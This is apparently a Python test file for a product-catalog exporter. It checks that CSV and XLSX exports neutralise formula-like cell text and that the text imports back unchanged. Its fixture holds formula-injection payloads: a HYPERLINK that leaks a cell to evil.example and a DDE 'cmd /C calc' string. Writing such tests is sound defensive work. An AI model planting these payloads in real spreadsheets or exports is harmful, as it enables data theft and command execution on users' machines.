"""Exports a spreadsheet cannot run as formulas, that import again to the very same products."""

from __future__ import annotations

import csv
import json
import tempfile
from pathlib import Path
from typing import Any

import openpyxl
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy.engine import Engine

from advisor.catalog.convert import neutralise, unneutralise
from advisor.catalog.formats import ReadOptions, read_table, write_csv
from advisor.catalog.importer import import_file
from advisor.catalog.store import ImportReport, export_products, load_dictionary
from advisor.catalog.xlsx import write_xlsx
from tests.advisor.catalog.excel_files import columns_of
from tests.helpers.catalog import sample_dictionary, tent, with_dictionary

DICTIONARY = sample_dictionary()
FORMULAS = {
    "T-1": '=HYPERLINK("https://evil.example/?leak="&A1,"Klick")',
    "T-2": "+49 89 1234",
    "T-3": "-Angebot- Kuppelzelt",
    "T-4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "T-5": "'=schon mit Apostroph",
}


def _import(engine: Engine, path: Path) -> ImportReport:
    report = import_file(engine, path)
    assert isinstance(report, ImportReport)
    assert (report.rejected, report.unusable) == ([], [])
    return report


def _catalog_with_formula_names(engine: Engine, tmp_path: Path) -> list[dict[str, Any]]:
    with_dictionary(engine)
    path = tmp_path / "products.json"
    path.write_text(json.dumps([tent(sku=sku, name={"de": text, "en": text}) for sku, text in FORMULAS.items()]))
    _import(engine, path)
    return export_products(engine)


def test_csv_export_puts_an_apostrophe_before_formulas_and_imports_to_the_same_products(
    engine: Engine, tmp_path: Path
) -> None:
    products = _catalog_with_formula_names(engine, tmp_path)
    path = tmp_path / "export.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        write_csv(products, handle)

    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["name.de"] for row in rows] == [
        "'" + '=HYPERLINK("https://evil.example/?leak="&A1,"Klick")',
        "'+49 89 1234",
        "'-Angebot- Kuppelzelt",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "''=schon mit Apostroph",
    ]
    assert {row["attributes.capacity"] for row in rows} == {"2"}  # numbers stay numbers

    _import(engine, path)
    assert export_products(engine) == products


def test_xlsx_export_opens_as_text_in_a_spreadsheet_library_and_imports_to_the_same_products(
    engine: Engine, tmp_path: Path
) -> None:
    products = _catalog_with_formula_names(engine, tmp_path)
    path = tmp_path / "export.xlsx"
    write_xlsx(products, path, load_dictionary(engine))

    sheet = openpyxl.load_workbook(path).active
    header = [cell.value for cell in sheet[1]]
    names = [row[header.index("name.de")] for row in sheet.iter_rows(min_row=2)]
    assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in names] == [
        (FORMULAS["T-1"], "s", True),
        (FORMULAS["T-2"], "s", True),
        (FORMULAS["T-3"], "s", True),
        (FORMULAS["T-4"], "s", True),
        (FORMULAS["T-5"], "s", False),
    ]
    prices = [row[header.index("price")] for row in sheet.iter_rows(min_row=2)]
    assert {(cell.value, cell.data_type) for cell in prices} == {(299.95, "n")}

    _import(engine, path)
    assert export_products(engine) == products


def test_json_export_keeps_the_dictionarys_attribute_order(engine: Engine, tmp_path: Path) -> None:
    with_dictionary(engine)
    record = tent()
    record["attributes"] = dict(reversed(record["attributes"].items()))
    path = tmp_path / "reversed.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        write_csv([record], handle)
    assert columns_of([record]).index("attributes.setup_minutes") < columns_of([record]).index("attributes.capacity")

    _import(engine, path)

    exported = export_products(engine)[0]
    assert list(exported["attributes"]) == [name for name in DICTIONARY.categories["tents"].attributes
                                            if name in record["attributes"]]  # fmt: skip
    assert list(exported["care"]) == ["wash", "dry", "reproof", "instructions"]


@given(st.text())
def test_neutralising_is_undone_exactly(text: str) -> None:
    assert unneutralise(neutralise(text)) == text
    assert not neutralise(text).startswith(("=", "+", "@", "\t", "\r"))


# Text a merchandiser can type into a cell: anything but NUL (which CSV cannot hold) and unpaired surrogates. The
# import takes the blanks around a name off (a name of blanks alone is missing), so names have more than blanks.
NAME = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), min_size=1, max_size=40).filter(
    str.strip
)
# An xlsx file is XML: it cannot hold control characters but tab and line breaks; a cell of only spaces and line
# breaks reads back empty (openpyxl writes it without xml:space="preserve"), so the import says the name is missing.
XLSX_NAME = st.text(
    st.characters(exclude_categories=("Cs", "Cc"), include_characters="\t\n"), min_size=1, max_size=40
).filter(str.strip)
FORMULA_LIKE = st.builds(lambda first, rest: first + rest, st.sampled_from(["=", "+", "-", "@", "'", "''", "\t"]), NAME)
XLSX_FORMULA_LIKE = st.builds(
    lambda first, rest: first + rest, st.sampled_from(["=", "+", "-", "@", "'", "''"]), XLSX_NAME
)


def _read_back(path: Path, kind: str) -> list[dict[str, Any]]:
    table = read_table(path, DICTIONARY, kind=kind, options=ReadOptions())
    batches = list(table.batches)
    assert table.problems == []
    assert [numbered.batch.problems for numbered in batches] == [{}]
    return [batch.product(position) for batch in [batches[0].batch] for position in range(len(batch.products))]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.one_of(FORMULA_LIKE, NAME), min_size=1, max_size=4))
def test_csv_export_then_import_gives_back_every_name_exactly(names: list[str]) -> None:
    records = [tent(sku=f"T-{n}", name={"de": name, "en": name[::-1]}) for n, name in enumerate(names)]
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "export.csv"
        with path.open("w", encoding="utf-8", newline="") as handle:
            write_csv(records, handle)
        products = _read_back(path, "csv")
    # (as the import reads any name: without the blanks around it)
    assert [(product["name_de"], product["name_en"]) for product in products] == [
        (n.strip(), n[::-1].strip()) for n in names
    ]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.one_of(XLSX_FORMULA_LIKE, XLSX_NAME), min_size=1, max_size=3))
def test_xlsx_export_then_import_gives_back_every_name_exactly(names: list[str]) -> None:
    records = [tent(sku=f"T-{n}", name={"de": name, "en": "x"}) for n, name in enumerate(names)]
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "export.xlsx"
        write_xlsx(records, path, DICTIONARY)
        products = _read_back(path, "xlsx")
    assert [product["name_de"] for product in products] == [name.strip() for name in names]
